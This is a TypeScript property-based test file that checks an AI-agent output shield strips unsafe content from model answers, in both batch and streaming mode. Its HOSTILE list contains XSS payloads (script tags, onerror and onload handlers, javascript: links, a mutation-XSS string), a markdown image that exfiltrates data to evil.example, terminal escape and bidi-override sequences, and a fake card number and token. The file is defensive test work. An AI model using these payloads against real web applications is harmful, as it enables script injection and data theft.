import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { z } from 'zod'
import { createShield } from '../index.ts'
import { sanitizeHtml } from '../sinks/html.ts'
import { sanitizeMarkdown } from '../sinks/markdown.ts'
import { ioSchema } from './io-schema.ts'
import { boundedList, probability } from './list-fields.ts'
import { scriptedModel } from './scripted-model.ts'
import { createSecureAgent } from './secure-agent.ts'
import { htmlText, safeHtml, safeMarkdown, secureText } from './text-fields.ts'

const shield = createShield()
const CARD = ['4111', '1111', '1111', '1111'].join(' ')
const KEY = `ghp_${['x7Kq2LmZ9p', 'Rt4VbN8sWc', '3YdF6hJg1T', 'kA5uEo'].join('')}`

const Answer = ioSchema('Answer', 'An answer of every kind.', {
  html: safeHtml({ max: 300 }),
  markdown: safeMarkdown({ max: 300 }),
  text: secureText({ max: 300, injection: 'off' }),
  shout: z.string().refine((text) => text === text.toUpperCase(), { error: 'Not in capitals.' }),
  level: z.enum(['info', 'warning', 'error']),
  score: probability(),
  list: boundedList(htmlText({ max: 40, overflow: 'cut' }), { max: 3 }),
})
type Fields = Partial<Record<keyof typeof CHECKS, unknown>>

const sameAfter = (value: string, result: { ok: boolean; value?: string }): boolean =>
  result.ok && result.value === value

/** What must hold of every field wherever it is shown, complete or growing. */
const CHECKS = {
  html: (value: unknown) => typeof value === 'string' && sameAfter(value, sanitizeHtml(value)),
  markdown: (value: unknown) => typeof value === 'string' && sameAfter(value, sanitizeMarkdown(value)),
  text: (value: unknown) =>
    // eslint-disable-next-line no-control-regex
    typeof value === 'string' && value.length <= 300 && !/[\0-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]/.test(value),
  shout: (value: unknown) => typeof value === 'string' && value === value.toUpperCase(),
  level: (value: unknown) => ['info', 'warning', 'error'].includes(value as string),
  score: (value: unknown) => typeof value === 'number' && value >= 0 && value <= 1,
  list: (value: unknown) =>
    Array.isArray(value) &&
    value.length <= 3 &&
    value.every((item) => typeof item === 'string' && !/[<>"']/.test(item)),
}

function wrongIn(shown: Fields): string[] {
  const wrong = Object.entries(shown).filter(([name, value]) => {
    const check = Object.hasOwn(CHECKS, name) ? CHECKS[name as keyof typeof CHECKS] : undefined
    return check === undefined || !check(value)
  })
  // As a reader sees it.
  const text = JSON.stringify(shown).replace(/<!--.*?-->|<\/?\w[^<>]*>|\*/g, '')
  return [...wrong.map(([name]) => name), ...(text.includes(CARD) || text.includes(KEY) ? ['secret'] : [])]
}

const HOSTILE = [
  '<script>steal()</script>',
  '<scr<script></script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<math><mi><style><a title="</style><img src onerror=alert(1)>">',
  '![x](https://evil.example/?d=c2VjcmV0)',
  '[x](javascript:alert(1))',
  'javajavascript:script:',
  // Blanks on both sides: beside a further digit it would be no card number.
  ` Card ${CARD}. `,
  ` Key ${KEY}! `,
  ' Card 4111 1111<!-- x --> 1111 1111. ',
  ' Card 4111 <b>1111</b> 1111 1111. ',
  ' Card 4111 **1111** 1111 1111. ',
  '\x1b]0;title\x07\x1b[31m',
  '\u202egnirts\u202c',
  '&lt;b&gt; "quoted" \'single\'',
  '<!--',
  '-->',
  '```',
  'An ordinary sentence.',
  'SHOUTED',
  '\ud83d',
  '😀',
] as const
const text = fc
  .array(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ maxLength: 12 })), { maxLength: 4 })
  .map((parts) => parts.join(''))
const anything = fc.oneof(text, fc.jsonValue({ maxDepth: 2 }), fc.constant(null))
const fitting = fc.record({
  html: text,
  markdown: text,
  text: text.map((value) => `x${value}`),
  shout: text.map((value) => value.toUpperCase()),
  level: fc.constantFrom('info', 'warning', ' ERROR '),
  score: fc.oneof(fc.double({ min: 0, max: 1, noNaN: true }), fc.constant('0.5')),
  list: fc.array(text, { maxLength: 5 }),
})
const unfitting = fc.record(
  {
    html: anything,
    markdown: anything,
    text: anything,
    shout: anything,
    level: anything,
    score: fc.oneof(fc.double(), anything),
    list: fc.oneof(fc.array(anything, { maxLength: 5 }), anything),
    __proto__: anything,
    extra: anything,
  },
  { requiredKeys: [] },
)
const noise = fc.oneof(text, fc.constantFrom('{', '}', '{"html":"<script>', '```json\n', '[', '"html":'))
const answer = fc.oneof(
  { weight: 4, arbitrary: fitting.map((value) => JSON.stringify(value)) },
  { weight: 4, arbitrary: unfitting.map((value) => JSON.stringify(value)) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(noise, unfitting, noise)
      .map(([before, value, after]) => before + JSON.stringify(value) + after),
  },
  { weight: 1, arbitrary: noise },
)

describe('whatever a model returns', () => {
  it('no unsanitized or unvalidated field reaches the caller, batch or stream', async () => {
    let done = 0
    let partials = 0
    const run = async (answers: readonly string[], chunkLength: number): Promise<void> => {
      const options = { output: Answer, shield, reasks: 1 }
      const batch = await createSecureAgent({ ...options, model: scriptedModel(answers) }).run({ message: 'Hello' })
      if (batch.status === 'done') {
        done++
        expect(Object.keys(batch.output).sort()).toEqual(Object.keys(CHECKS).sort())
        expect(wrongIn(batch.output)).toEqual([])
      }
      const stream = createSecureAgent({ ...options, model: scriptedModel(answers, { chunkLength }) }).runStream({
        message: 'Hello',
      })
      for await (const partial of stream) {
        partials++
        expect(wrongIn(partial)).toEqual([])
      }
      // Streaming changes when something is known, never what.
      const streamed = await stream.result()
      expect(streamed.status).toBe(batch.status)
      if (streamed.status === 'done' && batch.status === 'done') expect(streamed.output).toEqual(batch.output)
      // Reasons are ours: they quote nothing.
      const reasons = batch.status === 'denied' ? batch.denial.reasons.join() : ''
      for (const hostile of HOSTILE.slice(0, 12)) expect(reasons).not.toContain(hostile)
    }
    await fc.assert(
      fc.asyncProperty(fc.array(answer, { minLength: 1, maxLength: 2 }), fc.integer({ min: 1, max: 40 }), run),
      { numRuns: Number(process.env['SALLYPORT_CHUNKINGS'] ?? 80) },
    )
    expect(done).toBeGreaterThan(10)
    expect(partials).toBeGreaterThan(100)
  }, 3_600_000)

  it('notices a field that is not clean (negative control)', () => {
    expect(wrongIn({ html: '<script>x()</script>' })).toEqual(['html'])
    expect(wrongIn({ list: ['<b>'] })).toEqual(['list'])
    expect(wrongIn({ shout: 'quiet', extra: 1 } as Fields)).toEqual(['shout', 'extra'])
    expect(wrongIn({ html: `a ${CARD}` })).toEqual(['secret'])
  })
})
